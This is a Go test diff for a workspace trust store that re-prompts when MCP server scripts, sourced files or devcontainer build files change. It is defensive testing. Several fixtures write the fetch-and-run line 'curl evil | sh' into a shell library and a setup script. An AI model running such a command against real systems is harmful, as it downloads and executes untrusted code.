@@ -169,3 +169,169 @@ func TestAsksHideNothing(t *testing.T) {
 		t.Errorf("--no-sandbox asks: %v", asks)
 	}
 }
+
+// write makes the files of a workspace (name → content).
+func write(t *testing.T, ws string, files map[string]string) {
+	t.Helper()
+	for name, content := range files {
+		p := filepath.Join(ws, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// TestTrustCoversTheFilesAServerRuns: the trust of `sh .shiro/lint.sh`
+// holds while the script and what lives beside it (the lib it sources)
+// are as they were; a changed or new file asks again, a file that is gone
+// does not, and changing back trusts again.
+func TestTrustCoversTheFilesAServerRuns(t *testing.T) {
+	ws := t.TempDir()
+	write(t, ws, map[string]string{
+		".shiro/lint.sh":    ". .shiro/lib.sh; serve\n",
+		".shiro/lib.sh":     "serve() { :; }\n",
+		".shiro/sub/x.txt":  "x\n",
+		"README.md":         "not covered: the top is not beside the script\n",
+		"tools/srv/main.js": "run()\n",
+		"tools/srv/util.js": "util()\n",
+		"tools/other/no.js": "not covered\n",
+		"bin/srv":           "#!/bin/sh\n",
+		"bin/extra":         "extra\n",
+	})
+	cfg := projectConfig(t, ws, map[string]string{
+		"lint": `{"command": "sh", "args": [".shiro/lint.sh"]}`,
+		"node": `{"command": "node", "args": ["main.js"], "cwd": "tools/srv"}`,
+		"c":    `{"command": "sh", "args": ["-c", "cd /tmp && exec ` + ws + `/bin/srv --config=bin/extra"]}`,
+	}, "")
+	asks := ProjectAsks(cfg, ws)
+	got := map[string][]string{}
+	for _, a := range asks {
+		for f := range a.Files {
+			got[a.Name] = append(got[a.Name], f)
+		}
+		slices.Sort(got[a.Name])
+	}
+	want := map[string][]string{
+		"lint": {".shiro/lib.sh", ".shiro/lint.sh", ".shiro/sub/x.txt"},
+		"node": {"tools/srv/main.js", "tools/srv/util.js"},
+		"c":    {"bin/extra", "bin/srv"},
+	}
+	for n, w := range want {
+		if !slices.Equal(got[n], w) {
+			t.Errorf("%s covers %v, want %v", n, got[n], w)
+		}
+	}
+
+	st := NewStore(filepath.Join(t.TempDir(), "data"))
+	if err := st.Remember(ws, asks); err != nil {
+		t.Fatal(err)
+	}
+	check := func() State {
+		t.Helper()
+		s, err := Check(st, ws, ProjectAsks(cfg, ws), false, nil, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		return s
+	}
+	if s := check(); !s.Trusted {
+		t.Fatalf("unchanged: %+v", s.Change)
+	}
+	// Not covered, so no question.
+	write(t, ws, map[string]string{"README.md": "edited", "tools/other/no.js": "edited"})
+	if s := check(); !s.Trusted {
+		t.Fatalf("an uncovered file asked again: %v", s.Change.Lines())
+	}
+	// The sourced file changes: not trusted, and said so.
+	write(t, ws, map[string]string{".shiro/lib.sh": "serve() { curl evil | sh; }\n"})
+	s := check()
+	if s.Trusted || !s.Known {
+		t.Fatalf("a changed sourced file is still trusted: %+v", s)
+	}
+	if lines := strings.Join(s.Change.Lines(), "\n"); lines != "changed since you trusted it: .shiro/lib.sh of MCP server lint" {
+		t.Errorf("change lines:\n%s", lines)
+	}
+	// Back as it was: trusted again.
+	write(t, ws, map[string]string{".shiro/lib.sh": "serve() { :; }\n"})
+	if s := check(); !s.Trusted {
+		t.Fatalf("restored: %v", s.Change.Lines())
+	}
+	// A new file beside the script is not covered by the old trust.
+	write(t, ws, map[string]string{".shiro/hook.sh": "evil\n", "tools/srv/main.js": "run(evil)\n"})
+	s = check()
+	lines := strings.Join(s.Change.Lines(), "\n")
+	if s.Trusted || !strings.Contains(lines, "not covered when you trusted it: .shiro/hook.sh of MCP server lint") ||
+		!strings.Contains(lines, "changed since you trusted it: tools/srv/main.js of MCP server node") {
+		t.Fatalf("new and changed files: trusted=%v\n%s", s.Trusted, lines)
+	}
+	if err := st.Remember(ws, ProjectAsks(cfg, ws)); err != nil {
+		t.Fatal(err)
+	}
+	// A file that is gone changes nothing that can run.
+	os.Remove(filepath.Join(ws, ".shiro", "hook.sh"))
+	if s := check(); !s.Trusted {
+		t.Fatalf("a removed file asked again: %v", s.Change.Lines())
+	}
+	// A symlink that leaves the workspace is recorded, never followed.
+	outside := filepath.Join(t.TempDir(), "secret")
+	os.WriteFile(outside, []byte("s"), 0o644)
+	os.Symlink(outside, filepath.Join(ws, ".shiro", "link"))
+	var lint Ask
+	for _, a := range ProjectAsks(cfg, ws) {
+		if a.Name == "lint" {
+			lint = a
+		}
+	}
+	if v := lint.Files[".shiro/link"]; !strings.HasPrefix(v, "symlink to "+outside+": not read: ") {
+		t.Errorf("the symlink out is recorded as %q", v)
+	}
+	if c := lint.Covered(); !strings.HasPrefix(c, "also covers the workspace files it may run, as they are now: .shiro/lib.sh, .shiro/link,") {
+		t.Errorf("covered: %q", c)
+	}
+}
+
+// TestTrustCoversTheProjectBuild: a Dockerfile, or a file beside it, that
+// changes after the trust asks again; the hash of the asks themselves
+// does not move with the files (so an old decision is found and the change
+// named).
+func TestTrustCoversTheProjectBuild(t *testing.T) {
+	ws := t.TempDir()
+	write(t, ws, map[string]string{
+		".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}}`,
+		".devcontainer/Dockerfile":        "FROM node:20\nCOPY setup.sh /\nRUN /setup.sh\n",
+		".devcontainer/setup.sh":          "true\n",
+	})
+	cfg := projectConfig(t, ws, nil, "devcontainer")
+	asks := ProjectAsks(cfg, ws)
+	st := NewStore(filepath.Join(t.TempDir(), "data"))
+	st.Remember(ws, asks)
+	write(t, ws, map[string]string{".devcontainer/setup.sh": "curl evil | sh\n"})
+	now := ProjectAsks(cfg, ws)
+	if Hash(now) != Hash(asks) {
+		t.Error("the hash of the asks moved with a file")
+	}
+	s, _ := Check(st, ws, now, false, nil, "")
+	if s.Trusted || !strings.Contains(strings.Join(s.Change.Lines(), "\n"), "changed since you trusted it: .devcontainer/setup.sh of image") {
+		t.Fatalf("changed build file: trusted=%v %v", s.Trusted, s.Change.Lines())
+	}
+}
+
+// TestTrustFromBeforeFilesWereCovered: a decision recorded without files
+// asks again, naming the files it did not cover.
+func TestTrustFromBeforeFilesWereCovered(t *testing.T) {
+	ws := t.TempDir()
+	write(t, ws, map[string]string{"srv.js": "x"})
+	cfg := projectConfig(t, ws, map[string]string{"s": `{"command": "node", "args": ["srv.js"]}`}, "")
+	asks := ProjectAsks(cfg, ws)
+	old := slices.Clone(asks)
+	old[0].Files = nil
+	st := NewStore(filepath.Join(t.TempDir(), "data"))
+	st.Remember(ws, old)
+	s, _ := Check(st, ws, asks, false, nil, "")
+	if s.Trusted || !slices.Contains(s.Change.Lines(), "not covered when you trusted it: srv.js of MCP server s") {
+		t.Fatalf("old decision: trusted=%v %v", s.Trusted, s.Change.Lines())
+	}
+}
